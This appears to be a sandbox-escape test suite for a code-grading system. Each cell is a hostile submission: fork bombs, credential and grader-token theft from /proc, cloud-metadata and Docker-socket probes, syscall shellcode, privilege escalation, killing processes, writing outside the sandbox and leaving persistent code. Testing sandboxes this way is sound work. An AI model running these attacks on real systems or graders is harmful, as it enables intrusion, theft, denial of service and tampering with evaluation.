"""Submissions that read what is hidden, reach what is outside, start processes, gain rights, or leave things behind.

Each cell, together with the lines above the first cell, is a separate submission.
"""

import atexit
import contextlib
import ctypes
import errno
import gc
import http.client
import importlib
import linecache
import mmap
import multiprocessing
import os
import platform
import re
import resource
import signal
import socket
import stat
import subprocess
import sys
import tempfile
import threading
import time
import urllib.request
import weakref

libc = ctypes.CDLL(None, use_errno=True)
INTEL = platform.machine() == "x86_64"
FOLDER = tempfile.gettempdir()


# %% read_other_submissions
"""Look in all usual places for other people's files: the submissions, the teacher's home folder, the project.

Harm: the answer says what it found.
"""

PLACES = ("@FOLDER@", "@PROJECT@", "/root", "/home", "/srv", "/mnt", "/media", "/var", "/opt", "/run", "/work", "/tmp")
NAMES = (".ipynb", "secret.txt", ".bash_history", "id_rsa", "grades.csv", "hidden.py", "assignment.toml")
FILES = ("/etc/passwd", "/etc/shadow", "/etc/hostname", "/etc/machine-id", "/etc/resolv.conf")


def shown(path):
    try:
        with open(path, errors="replace") as file:
            return f"{path}: {file.read(100)}"
    except OSError:
        return path


def paired(*given):
    found = []
    for place in PLACES:
        for folder, folders, files in os.walk(place):
            # Python's own files are visible to every submission.
            folders[:] = [one for one in folders if one not in ("site-packages", "lib", "proc")]
            found += [shown(f"{folder}/{name}") for name in files if name.endswith(NAMES)]
            if found:
                return found
    return [name for name in FILES if os.path.exists(name)]


# %% read_the_checks
"""Look for the code that judges the answer: modules, files, and objects in memory.

Harm: the answer says what it found. Whoever can read the checks can write what the checks accept.
"""

JUDGES = "checking.judge checking.report checking.verify rules.predicates rules.explained rules.rule tasks.answering"
MARKS = ("def nothing_left(", "def same_result(", "def input_unchanged(", "def median_with_deciles", "def with_gelu")


def paired(*given):
    found = []
    for name in (*(f"fxbook.{name}" for name in JUDGES.split()), "classroom", "press"):
        with contextlib.suppress(ImportError):
            importlib.import_module(name)
            found.append(name)
    for place in ("/book", "@PROJECT@", *(f"{place}/fxbook" for place in sys.path)):
        for folder, folders, files in os.walk(place):
            folders[:] = [name for name in folders if not name.startswith(".")]
            for name in files:
                with open(f"{folder}/{name}", encoding="utf-8", errors="replace") as file:
                    text = file.read()
                found += [f"{folder}/{name}" for mark in MARKS if mark in text]
    from fxbook.cases.exercise import Exercise, same_as_eager

    for item in gc.get_objects():
        if isinstance(item, Exercise):
            found += [item.id] * (item.check.rules != () or item.check.expected is not same_as_eager)
    return found


# %% read_the_grader
"""Read the names, open files, memory, arguments and environment of the processes around this one.

Harm: the answer says what it found.
"""


def content(place):
    if os.path.isdir(place):
        return str(os.listdir(place))
    with open(place, "rb") as file:
        return file.read(1 << 20).decode("latin-1")


def paired(*given):
    found = []
    for process in [name for name in os.listdir("/proc") if name.isdigit()]:
        if int(process) != os.getpid():
            found.append(f"process {process}")
        for part in ("environ", "cmdline", "root", "cwd", "mem", "fd"):
            place = f"/proc/{process}/{part}"
            with contextlib.suppress(OSError, ValueError):
                text = content(place)
                # The name is split so that the search does not find itself.
                start = text.find("GRADERS_" + "TOKEN=")
                found += [f"{place}: {text[start : start + 40]}"] * (start >= 0) + [place] * ("@FOLDER@" in text)
    found += [f"parent {os.getppid()}"] * (os.getppid() != 0)
    for name, value in os.environ.items():
        found += [f"{name}={value}"] * (name in ("GRADERS_TOKEN", "SSH_AUTH_SOCK", "VIRTUAL_ENV", "PYTHONPATH"))
    return found


# %% search_all_memory
"""Search this process for earlier data: in objects, in cached source lines, in memory, with and without a memory map.

Harm: it finds data from another submission or from the hidden variants of other exercises; the answer says so.
"""

TEXT = re.compile(rb"secret-[0-9]{12}")
STEP = 1 << 16


def mapped():
    """The content of the addresses that this process's memory map lists."""
    with open("/proc/self/maps") as maps:
        areas = [line.split() for line in maps]
    for area in areas:
        if area[1].startswith("rw") and (len(area) < 6 or area[5] == "[heap]"):
            start, end = (int(number, 16) for number in area[0].split("-"))
            for place in range(start, end, 1 << 24):
                yield ctypes.string_at(place, min(end - place, 1 << 24))


def paired(*given):
    found, looked = set(), 0
    for item in gc.get_objects():
        if isinstance(item, dict | list | tuple):
            held = item.values() if isinstance(item, dict) else item
            found.update(
                one[:80] for one in held if isinstance(one, str) and TEXT.search(one.encode("utf-8", "replace"))
            )
    found.update(name for name, entry in linecache.cache.items() if TEXT.search(str(entry).encode("utf-8", "replace")))
    readable, writable = os.pipe()
    os.set_blocking(writable, False)
    for anchor in sorted({id(item) >> 28 for item in gc.get_objects()}):
        for place in range(anchor << 28, (anchor + 1) << 28, STEP):
            # Where there is no memory, the kernel returns an error instead of crashing this process.
            written = libc.write(writable, ctypes.c_void_p(place), STEP)
            if written > 0:
                found.update(TEXT.findall(os.read(readable, written)))
                looked += 1
    with contextlib.suppress(OSError):
        for memory in mapped():
            found.update(TEXT.findall(memory))
    return [str(one) for one in found] if looked else ["it could not look"]


# %% look_for_what_was_left
"""Look for anything that `leave_things_behind` has left.

Harm: the answer says what it found.
"""


def paired(*given):
    found = os.listdir(FOLDER)
    found += ["a note"] * hasattr(sys.modules["fxbook"], "note")
    found += [thread.name for thread in threading.enumerate() if thread is not threading.main_thread()]
    return found + [name for name in os.listdir("/proc") if name.isdigit() and name != str(os.getpid())]


# %% use_open_descriptors
"""Use any descriptors that were left open: read from them, list them, reach parent folders through them.

Harm: a file, a folder or a socket of the grader is open in this process; the answer says which.
"""

KINDS = (stat.S_ISDIR, stat.S_ISREG, stat.S_ISSOCK, stat.S_ISBLK)


def paired(*given):
    found = []
    for number in range(1024):
        with contextlib.suppress(OSError):
            kind = os.fstat(number).st_mode
            found += [f"{number}: {oct(kind)}"] * any(is_one(kind) for is_one in KINDS)
            os.listdir(number)
            found.append(f"{number} lists")
    return found


# %% network
"""Reach the network: by TCP and UDP on loopback, a cloud's metadata service, a host name; and listen on a port.

Harm: another process or machine is reached; the answer says which.
"""

TCP = (("127.0.0.1", int("@TCP@")), ("169.254.169.254", 80), ("1.1.1.1", 443), ("localhost", 80))
UDP = (("8.8.8.8", 53), ("127.0.0.1", int("@UDP@")))


def paired(*given):
    worked = []
    for address in TCP:
        with contextlib.suppress(OSError):
            socket.create_connection(address, timeout=0.2).close()
            worked.append(str(address))
    for address in UDP:
        with contextlib.suppress(OSError):
            socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secret", address)
            worked.append(f"udp to {address}")
    for family in (socket.AF_INET, socket.AF_INET6, socket.AF_NETLINK, socket.AF_PACKET, 40):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW):
            with contextlib.suppress(OSError):
                socket.socket(family, kind)
                worked.append(f"{family} {kind}")
    with contextlib.suppress(OSError):
        socket.create_server(("127.0.0.1", 0))
        worked.append("served")
    for name in ("example.org", "secret.example.org", "metadata.google.internal"):
        with contextlib.suppress(OSError):
            socket.getaddrinfo(name, 80)
            worked.append(name)
    with contextlib.suppress(OSError, http.client.HTTPException):
        urllib.request.urlopen("http://example.org", timeout=0.2)
        worked.append("http")
    return worked


# %% local_sockets
"""Reach local services: sockets in the file system, and abstract sockets, which are in no folder.

Harm: a service is reached; the answer says which.
"""

PATHS = ("/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket", "/tmp/.X11-unix/X0", "\0@LOCAL@")


def paired(*given):
    worked = []
    for path in PATHS:
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            with contextlib.suppress(OSError):
                socket.socket(socket.AF_UNIX, kind).connect(path)
                worked.append(path)
            one, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
            with contextlib.suppress(OSError):
                one.connect(path)
                worked.append(f"{path} from a pair")
            with contextlib.suppress(OSError):
                one.sendto(b"hello", path)
                worked.append(f"{path} sent from a pair")
            with contextlib.suppress(OSError):
                one.bind("\0by-an-attack")
                worked.append("bound")
    return worked


# %% fork_bomb
"""Start processes without end, in every way that Python and C have, and by old and new raw system calls.

Harm: the machine cannot start other processes any more; the answer says which way worked.
"""

WAYS = {
    "fork": os.fork,
    "forkpty": os.forkpty,
    "spawn": lambda: os.posix_spawn("/usr/bin/sleep", ["by-an-attack", "60"], {}),
    "subprocess": lambda: subprocess.Popen(["by-an-attack", "60"], executable="/usr/bin/sleep"),
    "shell": lambda: subprocess.check_output("echo hello", shell=True),
    "multiprocessing": lambda: multiprocessing.get_context("fork").Process(target=print).start(),
    "spawned": lambda: multiprocessing.get_context("spawn").Process(target=print).start(),
}
CHILD = 17
NAMESPACES = (0x10000000, 0x20000000, 0x00020000, 0x40000000)


def bare():
    """The numbers and arguments of fork, vfork, clone and clone3, including those of the x32 ABI."""
    yield from ((56 if INTEL else 220, flags | CHILD, 0, 0, 0, 0) for flags in (0, 0x4000, *NAMESPACES))
    arguments = (ctypes.c_uint64 * 11)(0, 0, 0, 0, CHILD)
    yield 435, ctypes.byref(arguments), ctypes.sizeof(arguments)
    if INTEL:
        yield from ((57,), (58,), (0x40000000 + 57,), (0x40000000 + 56, CHILD, 0, 0, 0, 0))


def paired(*given):
    worked = []
    for _ in range(50):
        for name, way in WAYS.items():
            with contextlib.suppress(OSError):
                way()
                worked.append(name)
        if libc.fork() != -1 or libc.vfork() != -1:
            worked.append("libc")
        if os.system("true") == 0:
            worked.append("system")
    # These come last, because the kernel kills a program that makes a system call of another ABI.
    first = next((str(call[:2]) for call in bare() if libc.syscall(*call) != -1), "")
    return worked or [first] * bool(first)


# %% old_system_calls
"""Start a process by a 32-bit system call, which has another number, in generated machine code.

Harm: a process starts to which no filter applies; the answer says so.
"""

if not INTEL:
    os.abort()
code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
# mov eax, 2 (fork); int 0x80; ret
code.write(b"\xb8\x02\x00\x00\x00\xcd\x80\xc3")
start = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))


def paired(*given):
    return ["a process"] if start() >= 0 else []


# %% new_namespaces
"""Become root in a new namespace, or join another process's namespace, and mount hidden folders.

Harm: it sees hidden files, or changes what is mounted; the answer says what worked.
"""

KINDS = (0x10000000, 0x00020000, 0x20000000, 0x40000000, 0x08000000, 0x04000000, 0x02000000, 0x00000080)
MOUNTS = (
    lambda: libc.mount(b"tmpfs", b"/usr", b"tmpfs", 0, None),
    lambda: libc.mount(b"none", b"/", None, 32 | 4096, None),
    lambda: libc.umount2(b"/tmp", 2),
    lambda: libc.umount2(b"/proc", 2),
    lambda: libc.pivot_root(b"/tmp", b"/tmp"),
    lambda: libc.chroot(b"/tmp"),
    lambda: libc.syscall(430, b"tmpfs", 0),
    lambda: libc.syscall(428, -100, b"/", 1),
)


def paired(*given):
    worked = [f"unshare {kind:x}" for kind in KINDS if libc.unshare(kind) == 0]
    for name in ("mnt", "pid", "user", "net"):
        with contextlib.suppress(OSError):
            if libc.setns(os.open(f"/proc/self/ns/{name}", os.O_RDONLY), 0) == 0:
                worked.append(f"setns {name}")
    return worked + [f"mount {place}" for place, mount in enumerate(MOUNTS) if mount() != -1]


# %% gain_rights
"""Become root or another user; regain capabilities; raise the limits.

Harm: it gains rights; the answer says which.
"""

BECOME = (os.setuid, os.seteuid, os.setgid, os.setegid, lambda user: os.setgroups([user]))
LIMITS = [getattr(resource, name) for name in dir(resource) if name.startswith("RLIMIT_")]


def paired(*given):
    worked = ["it is root"] * (os.getuid() == 0 or os.getgid() == 0)
    for become in BECOME:
        for user in (0, 1, 1000, 65534):
            with contextlib.suppress(OSError):
                if user not in (os.getuid(), os.getgid()):
                    become(user)
                    worked.append(f"{become} {user}")
    header = (ctypes.c_uint32 * 2)(0x20080522, 0)
    if libc.capset(header, (ctypes.c_uint32 * 6)(*[0xFFFFFFFF] * 6)) == 0:
        worked.append("capabilities")
    for limit in LIMITS:
        _, hard = resource.getrlimit(limit)
        for wanted in (hard + 1, resource.RLIM_INFINITY) if hard != resource.RLIM_INFINITY else ():
            with contextlib.suppress(OSError, ValueError):
                resource.setrlimit(limit, (wanted, wanted))
                worked.append(f"limit {limit}")
    with contextlib.suppress(OSError):
        os.setpriority(os.PRIO_PROCESS, 0, -5)
        worked.append("priority")
    with contextlib.suppress(OSError):
        os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(10))
        worked.append("real time")
    with contextlib.suppress(FileNotFoundError), open("/proc/self/status") as status:
        worked += [line for line in status if line.startswith(("CapEff", "CapPrm")) and int(line.split()[1], 16)]
    return worked


# %% trace_others
"""Debug other processes, read and write their memory, take their descriptors.

Harm: another process is under its control; the answer says which.
"""

CALLS = (*((310, 311, 312) if INTEL else (270, 271, 272)), 434, 438, 424, 440)


def paired(*given):
    worked = []
    for process in (1, 2, 3, os.getppid()):
        for request in (0, 16, 0x4206):
            if libc.ptrace(request, process, 0, 0) != -1:
                worked.append(f"ptrace {request} {process}")
        for call in CALLS:
            if libc.syscall(call, process, 0, 0, 0, 0, 0) != -1:
                worked.append(f"{call} {process}")
    return worked


# %% kill_everything
"""Send every signal to every process: the parent, process 1, the process group, all processes.

Harm: no process is left to run the next submission; the answer says which processes could be reached.
"""


def paired(*given):
    worked = []
    for number in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP, signal.SIGHUP):
        for process in (0, -1, os.getpid(), os.getppid(), *range(2, 3000)):
            with contextlib.suppress(OSError):
                os.kill(process, number)
                worked += [f"{process} got {number}"] * (process > 1)
        with contextlib.suppress(OSError):
            os.killpg(os.getpgid(os.getppid()), number)
    return worked


# %% doors_to_the_kernel
"""Try the calls that kernel exploits begin with: bpf, io_uring and its predecessor, keys, userfaultfd, modules.

Harm: one of them is allowed; the answer says which.
"""

DOORS = {"bpf": 321, "perf_event_open": 298, "userfaultfd": 323, "add_key": 248, "request_key": 249, "keyctl": 250}
DOORS |= {"init_module": 175, "finit_module": 313, "kexec_load": 246, "reboot": 169, "swapon": 167, "syslog": 103}
DOORS |= {"io_setup": 206, "io_destroy": 207, "io_getevents": 208, "io_submit": 209, "io_cancel": 210}
DOORS |= {"modify_ldt": 154, "personality": 135, "vmsplice": 278, "splice": 275, "move_pages": 279, "acct": 163}
if not INTEL:
    DOORS = {"bpf": 280, "perf_event_open": 241, "userfaultfd": 282, "add_key": 217, "request_key": 218, "keyctl": 219}
    DOORS |= {"io_setup": 0, "io_destroy": 1, "io_submit": 2, "io_cancel": 3, "io_getevents": 4}
DOORS |= {"io_uring_setup": 425, "io_uring_enter": 426, "io_uring_register": 427, "open_tree": 428, "fsopen": 430}
DOORS |= {"memfd_secret": 447, "quotactl_fd": 443, "a call that nobody knows": 499, "another": 600}


def paired(*given):
    worked = []
    for name, number in DOORS.items():
        ctypes.set_errno(0)
        # Any other error would mean that the call was allowed and only its arguments were wrong.
        if libc.syscall(number, 0, 0, 0, 0, 0, 0) != -1 or ctypes.get_errno() not in (errno.EPERM, errno.ENOSYS):
            worked.append(f"{name}: {errno.errorcode.get(ctypes.get_errno())}")
    return worked


# %% write_outside
"""Write, rename, link or delete wherever a file could be, through paths with ``..`` and links that lead out.

Harm: a file outside is created, read or deleted; the answer says where.
"""

FOLDERS = [
    *("/", "/book", "/book/fxbook", "/dev", "/dev/shm", "/etc", "/home", "/mnt", "/opt", "/proc", "/root", "/run"),
    *("/srv", "/sys", "/usr", "/usr/lib", "/usr/local", "/var", "/var/tmp", "/tmp/../", "../", "../../../../root"),
    *(sys.prefix, sys.base_prefix, os.path.dirname(os.__file__), *filter(None, sys.path)),
]
TARGETS = ("/root", "/home", "/etc/shadow", "/proc/1/root", "/proc/self/root/root", "/proc/self/cwd/..", "@FOLDER@")
VICTIMS = ("/book/fxbook/learning/sheets.py", "/usr/bin/env", os.__file__, sys.executable)
WRITES = (
    lambda name: open(name, "w").close(),
    os.mkdir,
    lambda name: os.symlink("/etc/passwd", name),
    os.mkfifo,
    lambda name: os.mknod(name, 0o020666, os.makedev(1, 1)),
)
SPOILS = (os.unlink, lambda name: open(name, "a").close(), lambda name: os.chmod(name, 0o777))


def paired(*given):
    worked = []
    for number, target in enumerate(TARGETS):
        link = f"{FOLDER}/link-{number}"
        with contextlib.suppress(OSError):
            os.symlink(target, link)
        with contextlib.suppress(OSError):
            open(f"{link}/by-an-attack", "w").close()
            # It may write to its own folder, whatever path leads there.
            worked += [target] * (not os.path.exists(f"{FOLDER}/by-an-attack"))
        with contextlib.suppress(OSError):
            worked += [f"read {target}: {line}" for line in open(f"{link}/secret.txt")]
        with contextlib.suppress(OSError):
            os.link("/etc/ld.so.cache", link + "-hard")
            worked.append("a hard link")
    for folder in FOLDERS:
        for write in WRITES:
            with contextlib.suppress(OSError):
                write(f"{folder}/by-an-attack")
                worked.append(folder)
    for victim in VICTIMS:
        for spoil in SPOILS:
            with contextlib.suppress(OSError):
                spoil(victim)
                worked.append(victim)
    return worked


# %% modules_of_its_own
"""Make the library import modules that the submission wrote.

Harm: the next submission gets a changed library, or the observation of this submission is forged.
"""

for name in ("json", "torch", "fxbook", "sitecustomize", "_ctypes"):
    with open(f"{FOLDER}/{name}.py", "w") as file:
        file.write("raise SystemExit('by-an-attack')")
sys.path.insert(0, FOLDER)
os.chdir(FOLDER)


def paired(*given):
    return []


# %% leave_things_behind
"""Leave handlers, threads and files that run code after the answer was returned, or during the next submission.

Harm: the code runs: a file appears, a process runs on, or the next submission finds a note.
"""


def strike():
    while True:
        time.sleep(0.01)
        with contextlib.suppress(OSError):
            open(FOLDER + "/by-an-attack", "a").close()


class Last:
    def __del__(self):
        strike()


def paired(*given):
    atexit.register(strike)
    threading._register_atexit(strike)
    weakref.finalize(strike, strike)
    threading.Thread(target=strike).start()
    sys.last = Last()
    sys.modules["fxbook"].note = "by-an-attack"
    return []
